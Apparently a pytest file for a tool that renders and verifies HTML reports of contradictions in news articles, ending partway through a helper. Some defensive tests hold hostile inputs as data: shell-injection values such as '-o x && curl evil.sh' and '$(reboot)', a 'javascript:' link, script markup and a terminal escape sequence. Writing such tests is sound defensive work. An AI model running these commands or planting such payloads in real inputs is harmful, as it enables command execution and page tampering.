"""The page that a reporter opens, prints and hands on, and whether it still holds."""

import hashlib
import json
import re
import shutil
import subprocess
import sys
from base64 import b64encode
from dataclasses import replace
from functools import cache
from hashlib import sha256
from html import unescape
from html.parser import HTMLParser
from itertools import pairwise
from pathlib import Path
from typing import Any

import docx
import jsonschema
import pypdf
import pytest
from typer.main import get_command
from typer.testing import CliRunner

from contrast.cli import app as cli
from contrast.errors import InputError, UsageError
from contrast.labels import CheckName
from contrast.reading import read_article, read_text
from contrast.rendering import Provenance, as_text
from contrast.rendering.carried import Carried, as_carried, from_carried
from contrast.rendering.command import _parser, read_command
from contrast.rendering.html import as_html, draw, read_carried
from contrast.schema import (
    Check,
    Explanation,
    Finding,
    ModelInfo,
    Observation,
    RelationProbabilities,
    Report,
    ScoredPair,
    Statement,
)
from contrast.serving.model_process import command_of
from contrast.settings import CheckSettings
from contrast.verifying import verify_page
from contrast.verifying.making import compare_command, compare_model
from contrast.verifying.sources import Sources
from tests.conftest import ARTICLES, MILL, ROOT
from tests.pages import FERRY, MARKUP, article_tag
from tests.test_cli import SCHEMA, assert_one_clear_line, contrast
from tests.test_rendering import report

CAMERAS = ARTICLES / "b-marshport-cameras.txt"
VOID = {"meta", "input"}
# What a page adds to the words of a text.
ADDED = {"tag", "pair", "line-number", "visually-hidden"}


class Element:
    """An element of a page: its name, attributes, and the text in it without labels that the page added."""

    def __init__(self, name: str, attributes: dict[str, str | None]) -> None:
        self.name, self.attributes = name, attributes
        self.classes = frozenset((attributes.get("class") or "").split())
        self.text = ""


class Page(HTMLParser):
    """The elements of a page in their order."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.elements: list[Element] = []
        self._open: list[Element] = []
        self.feed(page)
        assert not self._open

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append(Element(tag, dict(attrs)))
        if tag not in VOID:
            self._open.append(self.elements[-1])

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append(Element(tag, dict(attrs)))

    def handle_endtag(self, tag: str) -> None:
        assert self._open.pop().name == tag

    def handle_data(self, data: str) -> None:
        added = next((k for k, element in enumerate(self._open) if element.classes & ADDED), 0)
        for element in self._open[added:]:
            element.text += data

    def all(self, name: str, kind: str = "") -> list[Element]:
        return [e for e in self.elements if e.name == name and (not kind or kind in e.classes)]


class Recalling:
    """A checker that checks an article once."""

    def __init__(self, checker: Any) -> None:
        self._checker = checker
        self.check_article = cache(checker.check_article)

    def __getattr__(self, name: str) -> Any:
        return getattr(self._checker, name)


@pytest.fixture(scope="module")
def recalling(checker: Any) -> Any:
    return Recalling(checker)


@pytest.fixture(scope="module")
def cameras(checker: Any) -> Report:
    return checker.check(CAMERAS)


@pytest.fixture(scope="module")
def two(checker: Any, cameras: Report) -> list[Report]:
    return [cameras, checker.check_article(read_text("\n".join([MARKUP.title, "20210901", *MARKUP.paragraphs]), id="markup"))]


def test_every_quote_stands_verbatim_at_the_place_it_names(cameras: Report) -> None:
    page = Page(as_html([cameras]))
    quotes = [e for e in page.elements if e.name == "blockquote"]
    places = page.all("p", "place")
    assert len(quotes) == len(places) == sum(map(len, (cameras.statements, cameras.observations, cameras.contrasts, cameras.supports)))
    lines = cameras.article.text.split("\n")
    for quote, place in zip(quotes, places, strict=True):
        line, start, end = map(int, re.findall(r"\d+", place.text))
        assert cameras.article.text[start:end] == quote.text
        assert quote.text in lines[line - 1]


def test_the_whole_text_stands_in_the_page_with_its_marks(two: list[Report]) -> None:
    page = Page(as_html(two))
    lines = [line for shown in two for line in shown.article.text.split("\n") if line.strip()]
    assert [" ".join(line.text.split()) for line in page.all("p", "line")] == [" ".join(line.split()) for line in lines]
    for side in [*two[0].statements, *two[0].observations]:
        assert any(words.text == side.text for words in page.all("span", "words"))


def test_every_link_leads_somewhere_and_contrasts_lead_both_ways(two: list[Report]) -> None:
    page = Page(as_html(two))
    ids = [e.attributes["id"] for e in page.elements if "id" in e.attributes]
    assert len(ids) == len(set(ids))
    links = [str(e.attributes["href"]) for e in page.elements if e.name == "a"]
    assert {link[1:] for link in links if link.startswith("#")} <= set(ids)
    pairs = [(e.attributes["data-of"], e.attributes["href"]) for e in page.all("a", "pair")]
    for finding in two[0].contrasts:
        assert (f"a1-{finding.statement}", f"#a1-{finding.observation}-text") in pairs
        assert (f"a1-{finding.statement}", f"#a1-{finding.statement}-text") in pairs


def test_a_page_loads_nothing_from_outside(two: list[Report]) -> None:
    told = replace(two[0], article=replace(two[0].article, url="https://example.org/mill"))
    page = Page(as_html([told, two[1]]))
    assert not [e for e in page.elements if e.name in ("link", "img", "iframe", "object", "embed", "video", "audio", "source", "base")]
    assert not [e for e in page.elements if {"src", "srcset", "style", "onclick", "action", "ping"} & e.attributes.keys()]
    style = page.all("style")[0].text
    assert "url(" not in style
    assert "@import" not in style
    outside = [e.attributes["href"] for e in page.elements if "href" in e.attributes and not str(e.attributes["href"]).startswith("#")]
    assert outside == ["https://example.org/mill"]


def test_an_address_that_runs_script_is_no_link(cameras: Report) -> None:
    told = replace(cameras, article=replace(cameras.article, url="javascript:alert(1)"))
    page = Page(as_html([told]))
    assert not [e for e in page.elements if "javascript" in str(e.attributes.get("href"))]
    assert "javascript:alert(1)" in page.all("p", "facts")[0].text


def test_markup_in_an_article_is_shown_as_text_and_runs_nothing(two: list[Report]) -> None:
    page = Page(as_html([two[1]]))
    assert [e.attributes.get("type") for e in page.all("script")] == ["application/json", None]
    assert not page.all("b") or all("tags in" not in e.text for e in page.all("b"))
    assert page.all("h1")[0].text == MARKUP.title
    assert any("<script>alert(1)</script>" in line.text for line in page.all("p", "line"))


def test_the_policy_lets_only_the_script_and_style_of_the_page_run(cameras: Report) -> None:
    page = Page(as_html([cameras]))
    policy = next(e.attributes["content"] for e in page.all("meta") if e.attributes.get("http-equiv") == "Content-Security-Policy")
    for name, part in (("script", page.all("script")[1]), ("style", page.all("style")[0])):
        assert f"{name}-src 'sha256-{b64encode(sha256(part.text.encode()).digest()).decode()}'" in str(policy)
    assert str(policy).startswith("default-src 'none'")


def test_headings_landmarks_and_labels_are_in_order(two: list[Report]) -> None:
    for shown in (two, two[:1]):
        page = Page(as_html(shown))
        levels = [int(e.name[1]) for e in page.elements if re.fullmatch(r"h\d", e.name)]
        assert levels.count(1) == 1
        assert levels[0] == 1
        assert all(after <= before + 1 for before, after in pairwise(levels))
        assert len(page.all("main")) == len(page.all("footer")) == 1
        labelled = {e.attributes.get("for") for e in page.all("label")}
        assert {e.attributes["id"] for e in page.elements if e.name in ("input", "select")} <= labelled
        ids = {e.attributes.get("id") for e in page.elements}
        assert {e.attributes["aria-labelledby"] for e in page.elements if "aria-labelledby" in e.attributes} <= ids
        assert all(e.text.strip() for e in page.all("a"))


def test_without_script_nothing_but_the_filters_is_hidden(two: list[Report]) -> None:
    page = Page(as_html(two))
    assert [e.attributes.get("id") for e in page.elements if "hidden" in e.attributes] == ["filters"]


def test_several_articles_get_an_overview_and_one_does_not(two: list[Report]) -> None:
    rows = [e for e in Page(as_html(two)).elements if "data-article" in e.attributes]
    assert [row.attributes["data-article"] for row in rows] == ["a1", "a2"]
    assert str(len(two[0].contrasts)) in rows[0].text
    assert not [e for e in Page(as_html(two[:1])).elements if e.attributes.get("id") == "overview"]


def luminance(colour: str) -> float:
    parts = [int(colour[k : k + 2], 16) / 255 for k in (1, 3, 5)]
    red, green, blue = (part / 12.92 if part <= 0.04045 else ((part + 0.055) / 1.055) ** 2.4 for part in parts)
    return 0.2126 * red + 0.7152 * green + 0.0722 * blue


def test_all_words_stand_out_from_their_ground_in_light_and_dark() -> None:
    style = (ROOT / "contrast" / "rendering" / "templates" / "report.css").read_text(encoding="utf-8")
    light, dark = (
        dict(re.findall(r"--([\w-]+): (#[0-9a-f]{6})\b", block)) for block in re.findall(r":root \{(.*?)\}", style, re.DOTALL)[:2]
    )
    grounds = {"said": ["said-ground", "target"], "seen": ["seen-ground", "target"], "ink": ["target"], "quiet": ["target"]}
    for colours in (light, dark):
        assert len(colours) > 12
        for name in ("ink", "quiet", "said", "seen", "against", "for", "mixed"):
            for ground in ["paper", "panel", *grounds.get(name, [])]:
                lighter, darker = sorted((luminance(colours[name]), luminance(colours[ground])), reverse=True)
                assert (lighter + 0.05) / (darker + 0.05) >= 4.5, (name, ground)


def test_the_foot_names_model_source_and_command(cameras: Report) -> None:
    provenance = Provenance("contrast check 'my article.txt' --format html", CheckSettings(threshold=0.7, top=3))
    page = Page(as_html([cameras], provenance))
    told = " ".join(e.text for e in page.all("dl"))
    for words in (cameras.model.name, cameras.model.version, cameras.model.sha256, cameras.article.sha256, provenance.command, "0.7"):
        assert str(words) in told


def test_the_same_report_gives_the_same_page_and_its_data_fit_the_schema(cameras: Report) -> None:
    page = as_html([cameras])
    assert page == as_html([cameras])
    carried = read_carried(page, "page")
    assert as_html(carried.reports) == page
    data = json.loads(next(e.text for e in Page(page).all("script")))
    jsonschema.validate(data["articles"][0]["report"], SCHEMA)
    assert data["articles"][0]["text"] == CAMERAS.read_text(encoding="utf-8")


def at_source(told: Report) -> Report:
    """The report as made from a file beside its page."""
    return replace(told, article=replace(told.article, id="source", path="source.txt"))


@pytest.fixture
def made(cameras: Report, tmp_path: Path) -> Path:
    shutil.copy(CAMERAS, tmp_path / "source.txt")
    path = tmp_path / "report.html"
    path.write_text(as_html([at_source(cameras)]), encoding="utf-8", newline="")
    return path


def test_a_report_that_was_not_touched_holds(made: Path, recalling: Any) -> None:
    found = verify_page(made, recalling)
    assert found.holds, found.differences
    assert "has the same SHA-256" in found.notes[0]
    (made.parent / "source.txt").unlink()
    found = verify_page(made, recalling)
    assert found.holds
    assert (
        "source not found here; its text has the SHA-256 that the page tells; its title, date and address were compared" in found.notes[0]
    )


def change(path: Path, old: str, new: str) -> None:
    page = path.read_text(encoding="utf-8")
    assert old in page
    path.write_text(page.replace(old, new, 1), encoding="utf-8", newline="")


def change_data(path: Path, part: str, **fields: object) -> None:
    """Changes a report's `part` in the data, or the first of several, and draws the page anew, as a careful forger would."""
    page = path.read_text(encoding="utf-8")
    data = json.loads(next(e.text for e in Page(page).all("script")))
    changed = data if part == "making" else data["settings"] if part == "settings" else data["articles"][0]["report"][part]
    (changed[0] if isinstance(changed, list) else changed).update(fields)
    written = json.dumps(data).replace("<", "\\u003c")
    path.write_text(draw(read_carried(f'<script id="contrast-data">{written}</script>', "forged")), encoding="utf-8", newline="")


def forgeries(told: Report) -> dict[str, tuple[str, dict[str, object]]]:
    first, strongest = told.statements[0], told.contrasts[0]
    flagged = {finding.observation for finding in told.contrasts if finding.statement == strongest.statement}
    return {
        "probability 0.990, now": ("contrasts", {"probability": 0.99}),
        "is no longer found": ("contrasts", {"observation": next(o.id for o in told.observations if o.id not in flagged)}),
        f", now {first.verdict}": ("statements", {"verdict": "open" if first.verdict != "open" else "supported"}),
        "Nuala Finch, now": ("statements", {"speaker": "Nuala Finch"}),
        "pairs differ": ("pairs", {"contradiction": 0.0 if told.pairs[0].probabilities.contradiction > 0.1 else 0.9}),
        "title 'Cameras stay off', in the source": ("article", {"title": "Cameras stay off"}),
        "date '1999-01-01', in the source": ("article", {"date": "1999-01-01"}),
        "address 'https://example.net/', in the source": ("article", {"url": "https://example.net/"}),
        "warnings ('Not in English',), in the source": ("article", {"warnings": ["Not in English"]}),
        "made by model contrast-xxx": ("model", {"name": "contrast-xxx"}),
        "version 99; the same weights": ("model", {"version": "99"}),
        "is told as entailment": ("contrasts", {"relation": "entailment"}),
    }


def test_a_forged_report_differs_even_when_drawn_anew(made: Path, recalling: Any, cameras: Report) -> None:
    untouched = made.read_bytes()
    for words, (part, fields) in forgeries(cameras).items():
        made.write_bytes(untouched)
        change_data(made, part, **fields)
        found = verify_page(made, recalling)
        assert any(words in line for line in found.differences), found.differences
        assert not any("altered" in line for line in found.differences)


@pytest.mark.parametrize("is_there", [True, False])
def test_what_stands_above_a_report_is_compared_with_its_source_or_its_text(made: Path, cameras: Report, is_there: bool) -> None:
    untouched = made.read_bytes()
    if not is_there:
        (made.parent / "source.txt").unlink()
    for words, (part, fields) in forgeries(cameras).items():
        made.write_bytes(untouched)
        change_data(made, part, **fields)
        (told,) = read_carried(made.read_text(encoding="utf-8"), "page").reports
        found = [line.text for line in Sources(made.parent).compare(told.article) if line.is_difference]
        assert [words in line for line in found] == ([True] if part == "article" else [])


def test_a_command_is_read_back_with_every_option_that_check_has() -> None:
    check = get_command(cli).commands["check"]  # type: ignore[attr-defined]
    told = {option for parameter in check.params for option in (*parameter.opts, *parameter.secondary_opts) if option.startswith("-")}
    known = {option for action in _parser()._actions for option in action.option_strings}
    assert told - {"--help"} == known


@pytest.mark.parametrize("more", ["-o $(reboot)", "-o x;reboot", "-o x && curl evil.sh", "-o x | sh", "-o ~/.bashrc", "\nreboot"])
def test_a_command_on_which_a_shell_does_more_is_none(more: str) -> None:
    assert read_command("contrast check 'a b.txt' --format html -o x.html").files == ("a b.txt",)
    with pytest.raises(UsageError, match="marks that a shell acts on"):
        read_command(f"contrast check 'a b.txt' --format html {more}")


def test_a_row_that_stands_twice_or_before_a_stronger_one_differs(made: Path, recalling: Any, cameras: Report) -> None:
    told = at_source(cameras)
    redrawn(made, replace(told, contrasts=(told.contrasts[0], *told.contrasts)))
    assert any("1 of them twice" in line for line in verify_page(made, recalling).differences)
    assert len(told.contrasts) > 1
    redrawn(made, replace(told, contrasts=told.contrasts[::-1]))
    assert any("do not stand strongest first" in line for line in verify_page(made, recalling).differences)


@pytest.mark.parametrize("ending", [".html", ".md", ".docx", ".jsonl"])
def test_a_document_whose_source_is_gone_tells_its_head_by_its_text(recalling: Any, tmp_path: Path, ending: str) -> None:
    source, path = tmp_path / f"ferry{ending}", tmp_path / "report.html"
    write_document(source)
    told = recalling.check(source)
    assert (told.article.title, told.article.is_laid_out) == (FERRY.title, True)
    redrawn(path, replace(told, article=replace(told.article, path=source.name)))
    assert verify_page(path, recalling).holds
    source.unlink()
    found = verify_page(path, recalling)
    assert found.holds, found.differences
    assert "its SHA-256 could not be compared, nor whether this is its text" in found.notes[0]
    change_data(path, "article", warnings=["its date could be read in two ways"])
    found = verify_page(path, recalling)
    assert found.holds
    assert "nor could its warnings" in found.notes[0]
    change_data(path, "article", title="Ferry runs")
    assert [f"title 'Ferry runs', in the source '{FERRY.title}'" in line for line in verify_page(path, recalling).differences] == [True]


def write_document(path: Path) -> None:
    if path.suffix == ".docx":
        document = docx.Document()
        document.add_heading(FERRY.title, 0)
        for paragraph in FERRY.paragraphs:
            document.add_paragraph(paragraph)
        document.save(str(path))
        return
    row = {"id": "ferry", "title": FERRY.title, "date": "2024-03-12", "url": "https://example.org/", "text": "\n".join(FERRY.paragraphs)}
    marked = "\n\n".join([f"# {FERRY.title}", *FERRY.paragraphs])
    written = {".html": article_tag(FERRY), ".md": marked, ".jsonl": json.dumps(row)}[path.suffix]
    path.write_text(written, encoding="utf-8")


COMMAND = "contrast check source.txt --threshold 0.25 --no-explain --format html -o report.html"


@pytest.mark.parametrize(
    ("old", "new", "words"),
    [
        ("", "", None),
        ("-o report.html", "-o 'a copy.html'", None),
        ("source.txt", "./source.txt", None),
        ("source.txt", "source.txt gone.txt", None),
        ("source.txt", "other.txt", "source.txt is nothing that its command names"),
        ("source.txt", "-", "source.txt is nothing that its command names"),
        ("source.txt", "source.txt mill.txt", "its command names mill.txt, of which it holds no report"),
        ("0.25", "0.3", "its command has --threshold 0.3, its data 0.25"),
        ("--threshold 0.25", "", "its command has --threshold not given, its data 0.25"),
        ("--format", "--top 1 --format", "its command has --top 1, its data not given"),
        ("--format", "--model somebody/else --format", "its command has --model somebody/else, its data not given"),
        ("--format", "--device cuda --format", "its command has --device cuda, its data auto"),
        ("--no-explain", "", "its command has --explain True, its data False"),
        ("--format html", "--format json", "its command has --format json"),
        ("check", "score", "none of contrast check"),
        ("--no-explain", "--no-explian", "does not take (unrecognized arguments: --no-explian)"),
    ],
)
def test_a_command_that_asks_for_other_than_the_page_shows_differs(
    cameras: Report, checker: Any, tmp_path: Path, old: str, new: str, words: str | None
) -> None:
    for name, content in (("source.txt", CAMERAS.read_text(encoding="utf-8")), ("mill.txt", MILL)):
        (tmp_path / name).write_text(content, encoding="utf-8")
    command = COMMAND.replace(old, new) if old else COMMAND
    provenance = Provenance(command, CheckSettings(threshold=checker.thresholds.contrast), threshold=checker.thresholds.contrast)
    carried = Carried((at_source(cameras),), provenance)
    sources = Sources(tmp_path)
    found = list(compare_command(carried, sources))
    differences = [line.text for line in found if line.is_difference]
    assert differences == [] if words is None else any(words in line for line in differences), differences
    assert words is not None or "asks for these articles" in found[-1].text


@pytest.mark.parametrize(
    ("settings", "ending"),
    [(CheckSettings(), ".txt"), (CheckSettings(explain=True), ".txt"), (CheckSettings(threshold=0.7, top=3, device="cpu"), ".pdf")],
)
def test_the_command_of_a_server_holds_and_one_of_other_words_does_not(cameras: Report, tmp_path: Path, settings: Any, ending: str) -> None:
    told = replace(cameras, article=replace(cameras.article, path=None, is_laid_out=ending != ".txt"))
    command = command_of(ending, settings)
    for forged, holds in (
        (command, True),
        (command.replace("article", "letter"), False),
        (command.replace(ending, ".md"), ending == ".pdf"),
    ):
        found = compare_command(Carried((told,), Provenance(forged, settings)), Sources(tmp_path))
        assert any(line.is_difference for line in found) is not holds


def test_another_model_may_have_another_name_where_it_lies_elsewhere() -> None:
    told = ModelInfo("models/ours", "local", "0" * 64, "torch 2")
    here = replace(told, name="/home/ada/models/ours")
    assert [line.is_difference for line in compare_model(told, here, is_renamed=True)] == [False]
    assert [line.is_difference for line in compare_model(told, here, is_renamed=False)] == [True]
    assert [line.is_difference for line in compare_model(told, replace(here, sha256="1" * 64), is_renamed=True)] == [True]
    assert list(compare_model(told, told, is_renamed=False)) == []


def test_an_article_from_standard_input_holds(cameras: Report, tmp_path: Path) -> None:
    told = replace(cameras, article=replace(cameras.article, path=None))
    made = Provenance("contrast check - --format html", CheckSettings(explain=True))
    found = list(compare_command(Carried((told,), made), Sources(tmp_path)))
    assert [line.is_difference for line in found] == [False]


def redrawn(path: Path, report: Report) -> None:
    path.write_text(as_html([report]), encoding="utf-8", newline="")


def elsewhere(report: Report, step: float) -> Report:
    """The report as another kind of processor might have made it: every probability of a pair moved by `step`."""
    pairs = tuple(
        replace(pair, probabilities=RelationProbabilities(p.entailment + step, p.neutral - 2 * step, p.contradiction + step))
        for pair, p in ((pair, pair.probabilities) for pair in report.pairs)
    )
    contrasts = tuple(replace(finding, probability=finding.probability + step) for finding in report.contrasts)
    supports = tuple(replace(finding, probability=finding.probability + step) for finding in report.supports)
    model = replace(report.model, backend="openvino 2026.4.1, ternary")
    return replace(report, pairs=pairs, contrasts=contrasts, supports=supports, model=model)


def step_that_crosses_no_threshold(checker: Any, report: Report) -> float:
    """By how much all probabilities may rise, or fall, without one of them crossing a threshold; more than rounding on one processor."""
    at = checker.thresholds
    probabilities = [pair.probabilities for pair in report.pairs]
    above = [p.contradiction - at.contrast for p in probabilities] + [p.entailment - at.support for p in probabilities]
    rise = min(0.02, *(-0.9 * distance for distance in above if distance < 0))
    fall = min(0.02, *(0.9 * distance for distance in above if distance >= 0))
    assert max(rise, fall) > 0.0055
    return float(rise if rise >= fall else -fall)


def test_a_page_of_another_kind_of_processor_holds_if_rounding_explains_what_differs(made: Path, recalling: Any, cameras: Report) -> None:
    told = at_source(cameras)
    step = step_that_crosses_no_threshold(recalling, cameras)
    redrawn(made, elsewhere(told, step))
    found = verify_page(made, recalling)
    assert found.holds, found.differences
    assert any("ternary" in line and "rounds otherwise" in line for line in found.notes)
    redrawn(made, elsewhere(told, 0.2))
    assert not verify_page(made, recalling).holds
    redrawn(made, replace(elsewhere(told, step), model=told.model))
    assert not verify_page(made, recalling).holds


def test_a_forged_page_of_another_kind_of_processor_differs(made: Path, recalling: Any, cameras: Report) -> None:
    told = at_source(cameras)
    for words, (part, fields) in forgeries(cameras).items():
        redrawn(made, elsewhere(told, 0.0))
        change_data(made, part, **fields)
        found = verify_page(made, recalling)
        said = found.notes if "Nuala" in words else found.differences
        assert any(words.split(",")[0] in line for line in said), (words, found)


def test_a_page_whose_words_were_changed_differs(made: Path, recalling: Any, cameras: Report) -> None:
    change(made, f"<b>{cameras.contrasts[0].probability:.2f}</b>", "<b>0.14</b>")
    assert ["altered" in line for line in verify_page(made, recalling).differences] == [True]


def test_a_page_that_says_it_was_made_by_another_version_does_not_hold(made: Path, recalling: Any) -> None:
    version = json.loads(next(e.text for e in Page(made.read_text(encoding="utf-8")).all("script")))["contrast_version"]
    change(made, f'"contrast_version": "{version}"', '"contrast_version": "0.0.9"')
    change(made, "midnight on Sunday", "noon on Monday")
    assert ["made by contrast 0.0.9" in line for line in verify_page(made, recalling).differences] == [True]


def test_a_page_that_carries_another_text_than_its_source_differs(made: Path, checker: Any) -> None:
    source = made.parent / "source.txt"
    forged = checker.check_text(source.read_text(encoding="utf-8").replace("eleven", "ninety"))
    told = replace(
        forged, article=replace(forged.article, id="source", path="source.txt", sha256=hashlib.sha256(source.read_bytes()).hexdigest())
    )
    redrawn(made, told)
    assert ["another text than the page carries" in line for line in verify_page(made, checker).differences] == [True]


def test_a_changed_source_differs(made: Path, recalling: Any) -> None:
    change(made.parent / "source.txt", "Police", "Judges")
    assert any("was changed" in line for line in verify_page(made, recalling).differences)


@pytest.mark.parametrize(
    ("content", "words"),
    [
        ("<html>no report</html>", "no report of contrast"),
        ('<script id="contrast-data">{</script>', "damaged"),
        ('<script id="contrast-data">[]</script>', "damaged"),
        (
            '<script id="contrast-data">{"command": null, "settings": {"device": "tpu"}, "contrast_version": "1", "articles": []}</script>',
            "tpu",
        ),
        ("", "empty"),
    ],
)
def test_what_is_no_report_cannot_be_verified(tmp_path: Path, content: str, words: str) -> None:
    path = tmp_path / "page.html"
    path.write_text(content, encoding="utf-8")
    with pytest.raises(InputError, match=words):
        verify_page(path)


@pytest.mark.parametrize(
    ("part", "fields"),
    [
        ("contrasts", {"observation": "o999"}),
        ("contrasts", {"probability": "high"}),
        ("contrasts", {"probability": float("nan")}),
        ("contrasts", {"relation": "because"}),
        ("supports", {"statement": ["s1"]}),
        ("pairs", {"statement": "s999"}),
        ("pairs", {"neutral": 10**400}),
        ("statements", {"verdict": "x"}),
        ("statements", {"kind": None}),
        ("statements", {"speaker": 7}),
        ("statements", {"speaker\x1b[2J": ""}),
        ("observations", {"probability": True}),
    ],
)
def test_data_outside_their_vocabulary_are_damaged(part: str, fields: dict[str, object]) -> None:
    data = as_carried([report()], Provenance())
    from_carried(data, "page")
    data["articles"][0]["report"][part][0].update(fields)
    with pytest.raises(InputError, match=r"^page: its data are damaged") as refused:
        from_carried(data, "page")
    assert str(refused.value).isprintable()


def test_options_of_another_type_are_damaged() -> None:
    for change in ({"settings": {"top": 2.5}}, {"command": 3}, {"contrast_version": None}):
        with pytest.raises(InputError, match="damaged"):
            from_carried({**as_carried([report()], Provenance()), **change}, "page")


def test_verify_prints_one_line_for_a_speaker_that_gives_orders(made: Path, checker: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    change_data(made, "statements", speaker="\x1b[2Jowner\nreport.html: holds")
    found = verify_page(made, checker)
    assert any("\x1b[2J" in line for line in found.differences)
    monkeypatch.setattr("contrast.verifying.verify_page", lambda *_args, **_more: found)
    done = CliRunner().invoke(cli, ["verify", str(made)])
    assert done.exit_code == 1
    assert "\x1b" not in done.output
    assert "report.html: holds" not in done.output.splitlines()


@pytest.mark.parametrize("content", [b"\xef\xbb\xbf" * 2 + MILL.encode(), MILL.replace("Rain", "Ra\0in").encode("utf-16")])
def test_a_text_with_a_second_mark_or_a_nul_makes_a_page_whose_offsets_hold(checker: Any, content: bytes) -> None:
    told = checker.check_article(read_text(content))
    assert {"\ufeff", "\0"} & set(told.article.text)
    (again,) = read_carried(as_html([told]), "page").reports
    assert again.article == told.article
    assert [(side.text, side.start) for side in again.statements] == [(side.text, side.start) for side in told.statements]


def test_a_report_does_not_choose_which_model_is_loaded(cameras: Report, tmp_path: Path) -> None:
    path = tmp_path / "report.html"
    path.write_text(as_html([cameras], Provenance(settings=CheckSettings(model="somebody/else"))), encoding="utf-8", newline="")
    with pytest.raises(InputError, match="made with the model 'somebody/else'; if you trust"):
        verify_page(path)


def test_a_saved_page_is_checked_reported_and_verified_from_the_command_line(tmp_path: Path) -> None:
    source, output = tmp_path / "ferry.html", tmp_path / "report.html"
    source.write_text(article_tag(FERRY), encoding="utf-8")
    done = contrast("check", source, "--format", "html", "-o", output, "--threshold", "0.3")
    assert (done.returncode, done.stderr) == (0, "")
    assert f"contrast check {source} --format html -o {output} --threshold 0.3" in output.read_text(encoding="utf-8")
    done = contrast("verify", output)
    assert done.returncode == 0, done.stdout
    assert done.stdout.splitlines()[-1] == f"{output}: holds"
    source.write_text(article_tag(MARKUP), encoding="utf-8")
    done = contrast("verify", output)
    assert done.returncode == 1
    assert "was changed" in done.stdout
    assert_one_clear_line(contrast("verify", source), "no report of contrast")


def test_pages_that_can_be_verified_are_reported_beside_those_that_cannot(made: Path, tmp_path: Path) -> None:
    for name, content in (("empty.html", b""), ("binary.html", bytes(range(256)) * 8)):
        (tmp_path / name).write_bytes(content)
    last = tmp_path / "last.html"
    shutil.copy(made, last)
    none = tmp_path / "none.html"
    done = contrast("verify", made, none, tmp_path / "empty.html", tmp_path / "binary.html", tmp_path, last)
    assert done.returncode == 2
    assert [line for line in done.stdout.splitlines() if line.endswith(": holds")] == [f"{made}: holds", f"{last}: holds"]
    complaints = done.stderr.splitlines()
    assert complaints[0] == f"contrast: {none}: no such file; expected a page made by contrast check --format html"
    assert len(complaints) == 4
    assert all(line.endswith("; expected a page made by contrast check --format html") for line in complaints)


def test_a_forged_count_of_contrasts_differs(checker: Any, cameras: Report, tmp_path: Path) -> None:
    path = tmp_path / "report.html"
    for threshold, holds in ((checker.thresholds.contrast, True), (0.0001, False)):
        path.write_text(as_html([cameras], Provenance(threshold=threshold)), encoding="utf-8", newline="")
        assert verify_page(path, checker).holds is holds


def test_counts_of_one_are_told_as_one(checker: Any, tmp_path: Path) -> None:
    path = tmp_path / "report.html"
    told = checker.check_text(
        "The mill at Orsk will stay open through the winter, its owner, Ada Holm, promised on Monday.\n"
        "On Thursday the gates were chained and all 240 workers were sent home for good, the union said.\n"
    )
    assert len(told.statements) == len(told.pairs) == len(told.contrasts) == 1
    path.write_text(as_html([told]), encoding="utf-8", newline="")
    assert "1 statement, 1 contrast and 1 pair computed again" in verify_page(path, checker).notes[-1]


def test_json_of_a_page_carries_the_text_that_its_offsets_count_in(tmp_path: Path) -> None:
    source = tmp_path / "ferry.html"
    source.write_text(article_tag(FERRY), encoding="utf-8")
    written = json.loads(contrast("check", source, "--format", "json").stdout)
    jsonschema.validate(written, SCHEMA)
    assert written["article"]["text"] == read_article(source).text
    assert written["article"]["sha256"] == sha256(source.read_bytes()).hexdigest()
    assert written["statements"]
    for side in (*written["statements"], *written["observations"]):
        assert written["article"]["text"][side["start"] : side["end"]] == side["text"]


def test_rows_are_checked_one_by_one_and_bad_ones_named(tmp_path: Path) -> None:
    path = tmp_path / "rows.jsonl"
    path.write_text(json.dumps({"id": "a", "text": MILL}) + "\n{}\n" + json.dumps({"id": "b", "text": MILL}) + "\n", encoding="utf-8")
    done = contrast("check", path, "--format", "json")
    assert done.returncode == 2
    assert [row["article"]["id"] for row in json.loads(done.stdout)] == ["a", "b"]
    assert "line 2: no text under 'text'" in done.stderr


def test_markdown_shows_quotes_with_places_and_no_live_markup() -> None:
    told = report()
    told = replace(told, article=replace(told.article, title="*Mill* <script>"))
    written = as_text([told], "markdown", provenance=Provenance("contrast check mill.txt"))
    assert written.startswith("# \\*Mill\\* \\<script\\>\n")
    assert "**Against, 0.81** · O1 · no source found\n\n> On Thursday the gates were chained.\n>\n> line 2, characters 32–67\n" in written
    assert "## S1 · owner · ± mixed" in written
    assert "    contrast check mill.txt" in written


def test_the_plain_path_imports_neither_templates_nor_readers(mill: Path) -> None:
    heavy = ("torch", "transformers", "datasets", "pandas", "jinja2", "trafilatura", "lxml", "pypdf", "docx", "markdown_it", "dateparser")
    code = (
        "import sys; from contrast.cli import app;"
        "app(['check', sys.argv[1], '--format', 'json'], standalone_mode=False);"
        f"print([name for name in {heavy} if name in sys.modules], file=sys.stderr)"
    )
    done = subprocess.run([sys.executable, "-c", code, str(mill)], capture_output=True, text=True, check=True)
    assert done.stderr.strip() == "[]"


# Eighteen where no card broke over two pages and each check took a row.
MAX_PAGES = 13
BROWSER = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")


def browse(address: str, tmp_path: Path, *options: str) -> str:
    flags = "--headless --no-sandbox --disable-gpu --disable-quic --no-first-run --disable-background-networking --disable-sync"
    command = [str(BROWSER), *flags.split(), "--disable-component-update", f"--user-data-dir={tmp_path / 'profile'}", *options, address]
    return subprocess.run(command, capture_output=True, text=True, check=True, timeout=120).stdout


def acted(page: str, act: str, tmp_path: Path) -> Any:
    """What a script that acts on a page in a browser leaves in `seen`."""
    set_field = """const set = (id, value) => {
      const field = document.getElementById(id);
      field.value = value;
      field.dispatchEvent(new Event("input", {bubbles: true}));
    };"""
    script = f"<script>{set_field}{act}document.title = JSON.stringify(seen);</script></body>"
    (tmp_path / "page.html").write_text(re.sub(r"<meta http-equiv=[^>]*>", "", page).replace("</body>", script), encoding="utf-8")
    done = browse((tmp_path / "page.html").as_uri(), tmp_path, "--dump-dom")
    return json.loads(unescape(re.findall("<title>(.*?)</title>", done)[0]))


def of_statements(n: int) -> Report:
    """A report with `n` statements, three explained contrasts each."""
    said, seen = (
        "The mill at Orsk will stay open through the winter of year {}.",
        "The gates were chained on day {} of part {}, the union said.",
    )
